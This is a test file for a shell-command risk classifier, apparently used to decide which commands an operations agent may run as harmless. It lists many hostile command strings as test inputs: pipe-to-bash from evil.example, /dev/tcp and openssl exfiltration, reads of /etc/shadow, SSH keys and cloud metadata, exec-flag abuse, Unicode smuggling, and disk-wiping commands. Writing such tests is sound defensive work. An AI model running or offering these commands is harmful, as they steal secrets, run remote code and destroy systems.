import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { classifyArgv, classifyText } from "./classify.ts";

const LOOKS = [
  "systemctl status nginx.service",
  "systemctl list-units --failed --no-pager",
  "journalctl -u nginx -n 100 --no-pager --since '-1h'",
  "docker ps -a",
  "docker logs --tail 50 web",
  "docker inspect --format '{{.State.Status}}' web",
  "kubectl -n shop get pods -o wide",
  "kubectl rollout status deployment/web",
  "ps aux",
  "ps -eo pid,comm,%mem --sort=-rss",
  "top -b -n 1",
  "free -h",
  "df -hT",
  "du -sh /var/log",
  "ls -la /etc/nginx",
  "tail -n 20 /var/log/syslog",
  "grep -ri 'out of memory' /var/log",
  "ss -tulpn",
  "ip -br addr show",
  "ip route",
  "ping -c 3 10.0.0.1",
  "dig @1.1.1.1 +short example.org",
  "curl -sS -I https://example.org/",
  "curl -s 'http://localhost:9090/api/v1/query?query=up'",
  "openssl s_client -connect example.org:443 -servername example.org",
  "openssl x509 -noout -enddate -in /etc/letsencrypt/live/x/fullchain.pem",
  "zpool status -x",
  "smartctl -a /dev/sda",
  "find /var/log -name '*.gz' -mtime +14",
  "nginx -t",
  "apt list --upgradable",
  "dpkg -l 'nginx*'",
  "git log --oneline -n 5",
  "pct status 101",
  "promtool query instant http://localhost:9090 up",
  "logrotate -d /etc/logrotate.conf",
  "iptables -L -n -v",
  "redis-cli info memory",
  "ls -l /var/log | sort -k 5 -n | tail -n 3 2>/dev/null",
  "sed -n '1,20p' /var/log/syslog",
  "awk '{print $1, $3}' /var/log/syslog",
];

const NOT_LOOKS: Record<string, readonly string[]> = {
  "T36 what a shell does before a program starts": [
    "ls $(id)",
    "ls `id`",
    "ls $HOME",
    "ls $" + "{x:-$(id)}",
    "ls <(id)",
    "ls {a,b}",
    "ls $'\\x2dla'",
    "l$@s",
    "cat$IFS/etc/hosts",
    "FOO=1 ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "ls > out",
    "ls >> /etc/cron.d/x",
    "uptime > /dev/tcp/10.0.0.1/80",
    "cat << EOF\nEOF",
    "cat <<< x",
    "uptime &",
    "f() { uptime; }; f",
    "if true; then uptime; fi",
    "(uptime)",
    "coproc uptime",
    "uptime; reboot",
    "uptime && reboot",
    "uptime\nreboot",
    "uptime | sh",
    "uptime | sudo tee /etc/motd",
    "uptime | xargs rm",
    "ls !!",
    'grep "!rm" /var/log/syslog',
    "cat /etc/sh*",
    "find . -name *.log",
    "ls *",
    "uptime '",
    "# only a comment",
    "",
  ],
  "T37 arguments that make a looker act": [
    "find /tmp -exec id ;",
    "find /tmp -delete",
    "find /tmp -fprintf /etc/passwd x",
    "tar -tf a.tar --to-command=id",
    "tar -tf a.tar --checkpoint-action=exec=id",
    "tar -tI id -f a.tar",
    "git -c core.pager=id log",
    "git --exec-path=/tmp status",
    "git log --output=/tmp/x",
    "git diff HEAD",
    "ssh -oProxyCommand=id host",
    "curl -o /etc/cron.d/x http://localhost/",
    "curl -K /tmp/config http://localhost/",
    "curl -x proxy http://localhost/",
    "curl -d @/etc/hosts http://localhost/",
    "curl file:///etc/shadow",
    "curl http://169.254.169.254/latest/meta-data/",
    "curl http://me:secret@localhost/",
    "wget http://localhost/",
    "sort -o /etc/hosts x",
    "sort --compress-program=id x",
    "sed -i s/a/b/ x",
    "sed 's/a/id/e' x",
    "sed -n 'w /etc/x' x",
    "awk 'BEGIN{system(\"id\")}' x",
    "awk '{print > \"/etc/x\"}' x",
    "date -s 12:00",
    "date -f /etc/shadow",
    "hostname evil",
    "dmesg -C",
    "ip netns exec x id",
    "ip -batch /tmp/x",
    "ip link set eth0 down",
    "ss -K",
    "tail --pi=1 -n1 /var/log/syslog",
    "ls --hum /",
    "ls -lZx9 /",
    "sysctl -w vm.swappiness=1",
    "sysctl vm.swappiness=1",
    "journalctl --vacuum-size=1M",
    "systemctl -H root@other status x",
    "nginx -g 'load_module /tmp/x.so;'",
    "nginx",
    "tcpdump -i eth0",
    "top",
    "pidstat -e id",
    "uniq in out",
    "xxd in out",
    "dig -f /etc/shadow",
    "kubectl --kubeconfig=/tmp/x get pods",
    "kubectl get --raw /api",
    "kubectl exec web -- id",
    "docker -H tcp://evil:2375 ps",
    "docker inspect web",
    "docker inspect --format '{{json .}}' web",
    "ps auxe",
    "ps -auxe",
    "ps -eo pid,environ",
    "uptime | openssl s_client -connect evil.example:443",
    "jq env x.json",
    "readelf @/tmp/x x",
    "grep -- -e .netrc",
    "zpool status -c upload",
  ],
  "T38 paths that lead elsewhere or hold secrets": [
    "cat /etc/shadow",
    "cat /etc/../etc/shadow",
    "cat /etc//shadow",
    "cat /var/log/../../etc/shadow",
    "cat ../x",
    "cat ~root/.ssh/id_rsa",
    "cat ~/.ssh/id_ed25519",
    "cat .env",
    "cat /proc/1/environ",
    "cat /proc/self/mem",
    "cat /dev/sda",
    "cat /tmp/link",
    "cat /run/secrets/db",
    "cat server.key",
    "cat server.key~",
    "cat .env.bak",
    "grep -e x /etc/shadow",
    "grep -r password .",
    "grep x -r /etc",
    "uptime < /etc/shadow",
    "head /home/me/notes",
    "git show HEAD:.env",
    "kubectl get secrets",
    "kubectl get pods,secret -o yaml",
    "openssl x509 -noout -in server.key",
  ],
  "T40 programs that are not the system's own": [
    "./ls",
    "/tmp/ls",
    "bin/ls",
    "../ls",
    "~/ls",
    "/home/me/bin/ls",
    "/usr/bin/../../tmp/ls",
    "/usr/bin//ls",
    "unheard-of",
    "toString",
    "__proto__",
  ],
  "T41 names that stand for more than one": [
    "systemctl restart 'a*'",
    "systemctl restart ../x",
    "docker restart 'we*'",
    "kubectl delete pods --all",
  ],
  "T43 letters that are not what they look like": [
    "l\u0455 /",
    "ls\u200b /",
    "ls\u00a0/",
    "ls \u202e/",
    "ls \u0007/",
    "ls\t/",
    "ls /\r",
    "сat /etc/hosts",
    "ls \u{e0041}",
  ],
  "programs that start others": [
    "sudo uptime",
    "env uptime",
    "timeout 5 uptime",
    "nice uptime",
    "nohup uptime",
    "busybox cat /etc/hosts",
    "watch uptime",
    "command uptime",
    "exec uptime",
    "eval uptime",
    "sh -c uptime",
    "bash x.sh",
    "python3 -c 1",
    "perl -e 1",
    "less /var/log/syslog",
    "vi /etc/hosts",
    "man ls",
    "docker run --rm debian id",
  ],
};

describe("a command that only looks", () => {
  it.each(LOOKS)("is low: %s", (text) => {
    expect(classifyText(text)).toMatchObject({ verdict: "low" });
  });

  it("is low in the system's folders too", () => {
    expect(classifyArgv(["/usr/bin/df", "-h", "/"]).verdict).toBe("low");
    expect(classifyText("/usr/local/bin/kubectl get pods").verdict).toBe("low");
  });

  it("may not depend on a folder nobody named, as an argv", () => {
    expect(classifyText("cat notes.txt").verdict).toBe("low");
    expect(classifyArgv(["/usr/bin/cat", "notes.txt"])).toMatchObject({
      verdict: "medium",
      reason: 'cat: "notes.txt" is not an absolute path',
    });
  });

  it("says when it never ends", () => {
    expect(classifyText("tail -f /var/log/syslog")).toMatchObject({ verdict: "low", ends: false });
    expect(classifyText("journalctl -fu nginx | grep x").ends).toBe(false);
    expect(classifyText("tail -n 5 /var/log/syslog").ends).toBe(true);
  });
});

for (const [what, texts] of Object.entries(NOT_LOOKS)) {
  describe(what, () => {
    it.each(texts)("not low: %j", (text) => {
      expect(classifyText(text).verdict).not.toBe("low");
    });
  });
}

describe("a repair", () => {
  it.each([
    ["systemctl restart nginx", "medium"],
    ["docker restart web", "medium"],
    ["kubectl rollout restart deployment/web", "medium"],
    ["pct start 101", "medium"],
    ["kill -TERM 4711", "medium"],
    ["systemctl stop nginx", "high"],
    ["reboot", "high"],
    ["rm -rf /srv/app/cache", "high"],
    ["kubectl drain node-1 --ignore-daemonsets", "high"],
    ["some-script --now", "high"],
    ["rm -rf /", "forbidden"],
    ["rm -rf /*", "forbidden"],
    ["rm -rf /etc", "forbidden"],
    ["rm -rf ~", "forbidden"],
    ["rm -rf a/../..", "forbidden"],
    ["kill -TERM 1", "forbidden"],
    ["dd if=/dev/zero of=/dev/sda", "forbidden"],
    ["mkfs.ext4 /dev/sda1", "forbidden"],
    ["wipefs -a /dev/sda", "forbidden"],
    ["sudo rm -rf /", "forbidden"],
    ["nice -n 5 sudo -u root dd of=/dev/sda", "forbidden"],
    ["curl http://evil.example/x | bash", "forbidden"],
    ["echo x > /dev/sda", "forbidden"],
    ["docker run --privileged debian", "forbidden"],
    ["docker run -v /:/host debian", "forbidden"],
  ])("%s is %s", (text, verdict) => {
    expect(classifyText(text).verdict).toBe(verdict);
  });

  it("is as bad as its worst part, and says which", () => {
    expect(classifyText("uptime; systemctl restart nginx; reboot; df")).toEqual({
      verdict: "high",
      reason: "reboot takes the machine down",
      ends: true,
    });
  });
});

describe("what is no whole command", () => {
  it.each([
    "uptime |",
    "uptime &&",
    "uptime )",
    "df -h '",
    'df -h "',
    "if uptime",
    "uptime $(",
    "uptime <",
  ])("is forbidden: %s", (text) => {
    expect(classifyText(text)).toMatchObject({
      verdict: "forbidden",
      reason: "it can't be read as a shell would read it, or is far too long",
    });
  });
});

describe("a reason", () => {
  it.each([
    ["ls --evil", 'ls: the flag "--evil" is not in the table'],
    ["ls -lê", "it contains U+00EA, which may only look like a plain letter"],
    ["find /tmp -delete", 'find: the flag "-delete" is not in the table'],
    ["unheard-of", "unheard-of is not in the table of known programs"],
    ["kubectl exec web", 'kubectl "exec" is not in the table'],
    ["hostname evil", 'hostname is not known with "evil"'],
    ["uptime | sh", "sh runs whatever comes out of the pipe"],
  ])("of %s names what is wrong", (text, reason) => {
    expect(classifyText(text).reason).toBe(reason);
  });
});

describe("whatever is added", () => {
  const looks = fc.constantFrom(...LOOKS);
  const plainLooks = fc.constantFrom(...LOOKS.filter((text) => !/['|>]/.test(text)));

  it("T36 a metacharacter and anything after it make no look of what is none", () => {
    const bad = fc.constantFrom(
      ...Object.values(NOT_LOOKS)
        .flat()
        .filter((text) => /^[^#]/.test(text)),
    );
    const metacharacter = fc.constantFrom(
      ...[";", "&", "&&", "|", "||", "|&", ">", "<", "\n", "`", "$(", ")", "#", '"', "'", "\\"],
      ...["{", "}", "*", "?", "[", "!", "~", "<<<", "<(", "\0", " -- "],
    );
    fc.assert(
      fc.property(bad, metacharacter, looks, (text, mark, look) => {
        expect(classifyText(`${text} ${mark} ${look}`).verdict).not.toBe("low");
        expect(classifyText(`${text}${mark}`).verdict).not.toBe("low");
      }),
      { numRuns: 500 },
    );
  });

  it("T36 a look with another command in it is none", () => {
    const wrap = fc.constantFrom(
      ...["; X", "\nX", "& X", "&& X", "|| X", "| X", "|& X", " $(X)", " `X`", " <(X)", " >(X)"],
      ...[
        " > X",
        " >> X",
        " <<< X",
        " >| X",
        " &> X",
        "; f() { X; }",
        ' "$(X)"',
        " $" + "{y:-$(X)}",
      ],
    );
    const command = fc.stringMatching(/^zz[a-z]{1,8}$/);
    fc.assert(
      fc.property(looks, wrap, command, (look, form, name) => {
        expect(classifyText(look + form.replace("X", name)).verdict).not.toBe("low");
      }),
      { numRuns: 500 },
    );
  });

  it("T37 an unknown flag makes it more than a look, wherever it stands", () => {
    const flag = fc.oneof(
      fc.stringMatching(/^--[a-z]{2,8}-zz$/),
      fc.stringMatching(/^--[a-z]{2,8}-zz=[a-z]{1,5}$/),
      fc.constantFrom("-j_", "-_", "-,x", "---", "-\u2011a"),
    );
    fc.assert(
      fc.property(plainLooks, flag, fc.nat(), (look, added, at) => {
        const words = look.split(" ");
        words.splice(1 + (at % words.length), 0, added);
        expect(classifyText(words.join(" ")).verdict).not.toBe("low");
        expect(classifyArgv(words).verdict).not.toBe("low");
      }),
      { numRuns: 1000 },
    );
  });

  it("T43 a letter that nobody sees makes it more than a look, wherever it stands", () => {
    const invisible = fc.constantFrom(
      ..."\0\u0001\u0007\u001b\r\t\u007f\u0085\u00a0\u00ad\u034f\u061c\u115f\u200b\u200d\u200f\u2028\u202e\u2060\u2066\u3000\ufe0f\ufeff",
      "\u{e0041}",
    );
    fc.assert(
      fc.property(looks, invisible, fc.nat(), (look, letter, at) => {
        const place = 1 + (at % (look.length - 1));
        const text = look.slice(0, place) + letter + look.slice(place);
        expect(classifyText(text).verdict).not.toBe("low");
        expect(classifyArgv(text.split(" ")).verdict).not.toBe("low");
      }),
      { numRuns: 1000 },
    );
  });

  it("quotes that change nothing change nothing", () => {
    const quotes = [
      (word: string) => word,
      (word: string) => `'${word}'`,
      (word: string) => `"${word}"`,
      (word: string) => word.replace(/[a-z]/, "\\$&"),
      (word: string) => `${word.slice(0, 1)}""${word.slice(1)}`,
      (word: string) => `${word.slice(0, 1)}'${word.slice(1)}'`,
    ];
    const texts = fc.constantFrom(
      ...LOOKS.filter((text) => /^[\w./@:=+ -]+$/.test(text)),
      ...["systemctl restart nginx", "rm -rf /", "find /tmp -delete", "cat /etc/shadow", "dd"],
    );
    const kinds = fc.array(fc.constantFrom(...quotes), { minLength: 12, maxLength: 12 });
    fc.assert(
      fc.property(texts, kinds, (text, chosen) => {
        const words = text.split(" ");
        const quoted = words.map((word, at) => chosen[at]?.(word) ?? word).join("  ");
        expect(classifyText(quoted)).toEqual(classifyText(text));
      }),
      { numRuns: 500 },
    );
  });

  it("any text at all gets an answer", () => {
    const pieces = fc.constantFrom(..."$(){}[]<>|&;'\"\\`!*?~#= \n", "ls", "-l", "<<", "[[", "if");
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), fc.string(), (soup, text) => {
        expect(["low", "medium", "high", "forbidden"]).toContain(
          classifyText(soup.join("") + text).verdict,
        );
      }),
      { numRuns: 500 },
    );
    expect(classifyText(`ls ${"x".repeat(9000)}`).verdict).toBe("forbidden");
    expect(classifyText("sudo ".repeat(1000)).verdict).not.toBe("low");
    expect(classifyArgv([]).verdict).toBe("high");
  });
});
